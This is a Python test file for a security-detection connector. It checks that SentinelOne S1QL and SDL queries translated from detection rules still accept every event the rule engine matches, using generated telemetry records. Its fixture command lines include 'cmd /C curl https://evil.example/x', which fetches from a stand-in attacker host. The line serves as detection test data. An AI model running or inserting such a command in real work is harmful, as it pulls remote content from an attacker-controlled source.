"""Pushdown: golden strings for the seed rule, and the superset property against the engine.

The property: every record whose mapped event some rule stage matches (the engine's own
`stage_hits`) is accepted by the S1QL (evaluated by the simulator over the DV form), by the
SDL filter (over the Cloud Funnel form) and by the raw-line prefilter.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from connector.detection.engine import Engine
from connector.detection.model import Rule
from connector.detection.rules import load_rules, parse_rule_file
from connector.errors import ConfigError, RuleError
from connector.mapping import CF_TO_DV, Mapper
from connector.simulator.query import compile_s1ql, compile_sdl_filter
from connector.sources.pushdown import build_pushdown
from connector.sources.pushdown_ir import needle
from connector.sources.query import EDR_FILTER, Pushdown
from connector.sources.s1ql_fields import documented_value, enum_values

SEED_RULES = load_rules()

# Supersets of sentinelone-api.md §4.4 / §6.1. S1QL: enum fields (EventType, EndpointOS) take
# only =, !=, In, Not In with documented values (sentinelone-api-evidence.md, difference 1);
# the network stage is every type but Process Creation because DNS, IP Listen and URL events
# are `network` events too. SDL: `contains` (any case) on the OS because the mapper trims and
# lower-cases and also maps `windows_legacy`; event types in both spellings because Cloud
# Funnel has written `ProcessCreation`.
SEED_S1QL = (
    'EndpointOS = "windows" AND '
    '((EventType = "Process Creation" AND TgtProcName In Anycase ("cmd.exe")) OR '
    '(EventType != "Process Creation" AND SrcProcName In Anycase ("cmd.exe")))'
)
SEED_SDL = (
    "dataSource.name='SentinelOne' and dataSource.category='security' and "
    "endpoint.os contains 'windows' and "
    "(((event.type contains 'Process Creation' or event.type contains 'ProcessCreation') and "
    "tgt.process.name contains 'cmd.exe') or "
    "((event.type != 'Process Creation' and event.type != 'ProcessCreation') and "
    "src.process.name contains 'cmd.exe'))"
)
PC = 'EventType = "Process Creation"'


def rule(query: str, name: str = "t") -> Rule:
    return Rule(rule_id=name, name=name, query=query)


def test_seed_rule_golden_strings():
    pushdown = build_pushdown(SEED_RULES)
    assert pushdown.s1ql == SEED_S1QL
    assert pushdown.sdl_filter == SEED_SDL
    assert "\\" not in pushdown.s1ql
    assert pushdown.prefilter.alternatives == (((b"windows",), (b"cmd.exe",)),)
    assert any("process.args" in note for note in pushdown.notes)


def test_seed_rule_strings_parse_in_the_simulator():
    pushdown = build_pushdown(SEED_RULES)
    compile_s1ql(pushdown.s1ql, fields=CF_TO_DV.values())
    compile_sdl_filter(pushdown.sdl_filter)


@pytest.mark.parametrize(
    ("query", "s1ql"),
    [
        (
            'process where event.type == "start" and process.parent.name : ("WINWORD.EXE", "x*")',
            PC + ' AND (SrcProcName In Anycase ("WINWORD.EXE") OR SrcProcName StartsWithCIS "x")',
        ),
        (
            'process where event.action == "start" and process.command_line : "*http://*"',
            PC + ' AND TgtProcCmdLine ContainsCIS "http://"',
        ),
        (
            'process where event.type == "start" and process.executable : "C:\\\\Windows\\\\*.exe"',
            PC + ' AND TgtProcImagePath ContainsCIS "Windows"',
        ),
        (
            'network where event.type == "connection" and process.name : "*.exe"',
            'EventType = "IP Connect" AND SrcProcName EndsWithCIS ".exe"',
        ),
        ('process where not process.name : "cmd.exe" and event.type == "start"', PC),
        (
            "any where true",
            '(EventType = "Process Creation" OR EventType != "Process Creation")',
        ),
        (
            'process where event.type == "start" and host.os.type : "MAC*"',
            PC + ' AND EndpointOS = "osx"',  # "macos" is no documented EndpointOS value
        ),
        (
            'process where event.type == "start" and host.os.type == "solaris"',
            '(EventType = "Process Creation" AND EventType != "Process Creation")',
        ),
        ('process where host.type : "server"', 'EndpointMachineType = "Server"'),
    ],
)
def test_translation_examples(query, s1ql):
    pushdown = build_pushdown([rule(query)])
    assert pushdown.s1ql == s1ql
    compile_s1ql(pushdown.s1ql, fields=DV_FIELDS)
    compile_sdl_filter(pushdown.sdl_filter)


def test_long_value_lists_are_split_into_ors_of_100():
    names = ", ".join(f'"p{i}.exe"' for i in range(150))
    query = f'process where event.type == "start" and process.name : ({names})'
    pushdown = build_pushdown([rule(query)])
    assert pushdown.s1ql.count("TgtProcName In Anycase") == 2
    compile_s1ql(pushdown.s1ql)


def test_no_rules_is_a_config_error():
    with pytest.raises(ConfigError):
        build_pushdown([])


def test_needles_avoid_json_escaped_characters():
    assert needle("C:\\Windows\\cmd.exe") == b"windows"
    assert needle("http://x") == b"http:"
    assert needle('a"b') is None


# -- the superset property --------------------------------------------------------------------

EVENT_TYPES = [
    "Process Creation", "ProcessCreation", "IP Connect", "IPConnect", "DNS Resolved",
    "File Creation", "IP Listen", "Process Termination", "Url", "Login",
]  # fmt: skip
OS_NAMES = ["windows", "WINDOWS", " windows_legacy ", "Windows", "linux", "osx"]
NAMES = ["cmd.exe", "CMD.EXE", "Cmd.Exe", "powershell.exe", "WINWORD.EXE", "notcmd.exe"]
CMDLINES = [
    "cmd.exe /c run.bat",
    '"cmd.exe" /K "C:\\a b\\x.cmd"',
    "cmd /C curl https://evil.example/x",
    "cmd.exe /c echo hi",
    "notepad.exe a.txt",
]
ADDRESSES = ["8.8.8.8", "10.1.2.3", "2001:db8::1"]


def cf_record(etype: str, os_name: str, tgt: str, src: str, parent: str, cmd: str,
              ip: str, n: int = 1) -> dict[str, Any]:  # fmt: skip
    return {
        "event.id": f"T_{n}",
        "event.time": 1795514400000 + n,
        "event.type": etype,
        "dataSource.name": "SentinelOne",
        "dataSource.category": "security",
        "endpoint.os": os_name,
        "endpoint.name": "WS-1",
        "agent.uuid": "agent-1",
        "tgt.process.name": tgt,
        "tgt.process.uid": "AAAA",
        "tgt.process.cmdline": cmd,
        "src.process.name": src,
        "src.process.uid": "BBBB",
        "src.process.cmdline": cmd,
        "src.process.parent.name": parent,
        "src.process.parent.uid": "CCCC",
        "dst.ip.address": ip,
        "dst.port.number": 443,
        "event.network.direction": "OUTGOING",
    }


DV_FIELDS = set(CF_TO_DV.values())


def dv_form(record: dict[str, Any]) -> dict[str, Any] | None:
    """The record as Deep Visibility would hold it, or None when it cannot.

    DV enum fields only ever hold documented values, in the documented spelling (evidence
    page): `ProcessCreation` reads "Process Creation", `WINDOWS` reads "windows", and a record
    with `windows_legacy` is not a DV event at all (S1QL could not even name it).
    """
    dv: dict[str, Any] = {}
    for key, value in record.items():
        name = CF_TO_DV.get(key)
        if name is None:
            continue
        if enum_values(name) is None:
            dv[name] = value
            continue
        documented = documented_value(name, str(value).strip(), ignore_spaces=True)
        if documented is None:
            return None
        dv[name] = documented
    return dv


class Checker:
    """Checks the property for one rule set; counts how many records hit a stage."""

    def __init__(self, rules: list[Rule]) -> None:
        self.engine = Engine(rules)
        self.mapper = Mapper()
        self.pushdown: Pushdown = build_pushdown(rules)
        self.s1ql = compile_s1ql(self.pushdown.s1ql, fields=DV_FIELDS)
        self.sdl = compile_sdl_filter(self.pushdown.sdl_filter)
        self.hits = 0

    def check(self, record: dict[str, Any]) -> None:
        event = self.mapper.map(record, "cloud-funnel")
        if event is None or not self.engine.stage_hits(event):
            return
        self.hits += 1
        dv = dv_form(record)
        line = json.dumps(record).encode()
        assert self.sdl(record), (self.pushdown.sdl_filter, record)
        if dv is not None:
            assert self.s1ql(dv), (self.pushdown.s1ql, dv)
        assert self.pushdown.prefilter(line), line


def test_every_engine_match_passes_every_filter_exhaustive_grid():
    checker = Checker(SEED_RULES)
    grid = itertools.product(EVENT_TYPES, OS_NAMES, NAMES, NAMES, NAMES[3:5], CMDLINES, ADDRESSES)
    for n, values in enumerate(grid):
        if n % 7 == 0:  # a deterministic seventh of the grid keeps this test under 2 s
            checker.check(cf_record(*values, n=n))
    assert checker.hits > 200  # the property was exercised, not vacuously true


@settings(max_examples=200, deadline=None)
@given(
    etype=st.sampled_from(EVENT_TYPES),
    os_name=st.sampled_from(OS_NAMES),
    tgt=st.sampled_from(NAMES) | st.text(max_size=12),
    src=st.sampled_from(NAMES) | st.text(max_size=12),
    parent=st.sampled_from(NAMES) | st.text(max_size=12),
    cmd=st.sampled_from(CMDLINES) | st.text(max_size=40),
    ip=st.sampled_from(ADDRESSES),
)
def test_every_engine_match_passes_every_filter_random(etype, os_name, tgt, src, parent, cmd, ip):
    CHECKER.check(cf_record(etype, os_name, tgt, src, parent, cmd, ip))


CHECKER = Checker(SEED_RULES)

EXTRA_RULES = [
    rule('process where event.type == "start" and process.parent.name : ("x.exe", "*.EXE")', "a"),
    rule('network where process.name in~ ("cmd.exe") and not destination.ip == "10.1.2.3"', "b"),
    rule('any where startsWith~(process.command_line, "CMD") and host.os.type == "windows"', "c"),
    rule('process where process.command_line : "*/c*" or process.name == "powershell.exe"', "d"),
]


@settings(max_examples=150, deadline=None)
@given(
    etype=st.sampled_from(EVENT_TYPES),
    os_name=st.sampled_from(OS_NAMES),
    tgt=st.sampled_from(NAMES),
    src=st.sampled_from(NAMES),
    parent=st.sampled_from(NAMES),
    cmd=st.sampled_from(CMDLINES) | st.text(max_size=30),
)
def test_property_holds_for_other_rule_shapes(etype, os_name, tgt, src, parent, cmd):
    EXTRA.check(cf_record(etype, os_name, tgt, src, parent, cmd, "8.8.8.8"))


EXTRA = Checker(EXTRA_RULES)


def test_other_rule_shapes_are_exercised():
    checker = Checker(EXTRA_RULES)
    for values in itertools.product(EVENT_TYPES, OS_NAMES[:5:2], NAMES, NAMES[:2], CMDLINES):
        checker.check(cf_record(*values[:4], values[2], values[4], "8.8.8.8"))
    assert checker.hits > 100


# -- Elastic's SentinelOne rules ----------------------------------------------------------------


def test_every_loadable_elastic_rule_gives_parseable_queries(shared: Path):
    files = sorted((shared / "fixtures" / "detection-rules-s1" / "rules").rglob("*.toml"))
    translated = 0
    for path in files:
        try:
            loaded = parse_rule_file(path)
            pushdown = build_pushdown([loaded])
        except RuleError:
            continue  # rules our engine rejects are reported by `rules check`
        assert "\\" not in pushdown.s1ql, path
        compile_s1ql(pushdown.s1ql)
        compile_sdl_filter(pushdown.sdl_filter)
        assert pushdown.sdl_filter.startswith(EDR_FILTER)
        translated += 1
    assert translated > 300
